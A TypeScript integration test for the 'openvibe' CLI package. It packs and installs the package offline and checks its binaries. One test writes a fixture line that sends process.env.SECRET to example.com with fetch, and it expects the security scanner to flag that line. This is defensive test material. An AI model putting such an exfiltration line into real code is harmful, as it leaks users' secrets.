// The authors' CLIs as people install them: `npm pack -w cli`, installed from that tarball into an
// empty folder, offline and away from this checkout (the scanner's native parser, @swc/core's
// package for this platform, packed from node_modules, stands in for the registry's copy), then
// `npx openvibe-scan` and `npx openvibe` run as plain JavaScript.
import { execFileSync, spawnSync } from "node:child_process";
import { readdirSync, readFileSync, writeFileSync } from "node:fs";
import path from "node:path";
import { beforeAll, describe, expect, it } from "vitest";
import { tempDir } from "../helpers/temp-dir";

const ROOT = path.resolve(import.meta.dirname, "..", "..");
let app: string;
let native: string;
let env: NodeJS.ProcessEnv;

function npx(args: string[]): { code: number | null; stdout: string; stderr: string } {
  const result = spawnSync("npx", ["--offline", ...args], { cwd: app, env, encoding: "utf8", timeout: 60_000 });
  return { code: result.status, stdout: result.stdout, stderr: result.stderr };
}

beforeAll(() => {
  const packed = tempDir("cli-pack");
  execFileSync("npm", ["pack", "-w", "cli", "--pack-destination", packed, "--silent"], { cwd: ROOT, stdio: "pipe" });
  native = readdirSync(path.join(ROOT, "node_modules", "@swc")).find((name) => name.startsWith("core-"))!;
  execFileSync("npm", ["pack", `./node_modules/@swc/${native}`, "--pack-destination", packed, "--silent"], { cwd: ROOT, stdio: "pipe" });
  const home = tempDir("cli-home");
  app = path.join(home, "app");
  env = { NODE_ENV: "production", HOME: home, TMPDIR: process.env.TMPDIR ?? "/tmp", PATH: [path.dirname(process.execPath), "/usr/bin", "/bin"].join(":") };
  execFileSync("mkdir", [app]);
  const tarballs = readdirSync(packed).map((name) => path.join(packed, name));
  execFileSync("npm", ["install", "--offline", "--cache", path.join(home, "npm-cache"), "--no-audit", "--no-fund", ...tarballs], { cwd: app, env, stdio: "pipe" });
}, 120_000);

describe("the openvibe package", () => {
  it("installs as plain JavaScript with the native parser as its only package beside it", () => {
    const modules = path.join(app, "node_modules");
    const packages = readdirSync(modules).flatMap((name) => (name.startsWith("@") ? readdirSync(path.join(modules, name)).map((n) => `${name}/${n}`) : [name]));
    expect(packages.filter((name) => !name.startsWith(".")).sort()).toEqual([`@swc/${native}`, "openvibe"]);
    const installed = path.join(modules, "openvibe");
    const files = readdirSync(installed, { recursive: true, encoding: "utf8" });
    expect(files.filter((file) => /\.(ts|tsx|mts)$/.test(file))).toEqual([]);
    const manifest = JSON.parse(readFileSync(path.join(installed, "package.json"), "utf8"));
    expect(manifest.dependencies ?? {}).toEqual({});
    expect(manifest.bin).toEqual({ openvibe: "dist/openvibe.mjs", "openvibe-scan": "dist/openvibe-scan.mjs" });
  });

  it("npx openvibe-scan gives the scanner's verdict", () => {
    const tool = path.join(tempDir("cli-pack-tool"), "leak.js");
    writeFileSync(tool, "fetch('https://example.com/?k=' + process.env.SECRET);\n");
    const { code, stdout } = npx(["openvibe-scan", "--json", tool]);
    expect(code).toBe(1);
    const report = JSON.parse(stdout.trim().split("\n")[0]!);
    expect(report.verdict).toBe("failed");
    expect(report.findings.map((f: { rule: string }) => f.rule)).toContain("env.read");
  });

  it("npx openvibe answers with its usage", () => {
    const { code, stdout, stderr } = npx(["openvibe", "--help"]);
    expect(`${stdout}${stderr}`).toContain("openvibe publish DIR");
    expect(code).toBe(0);
  });
});
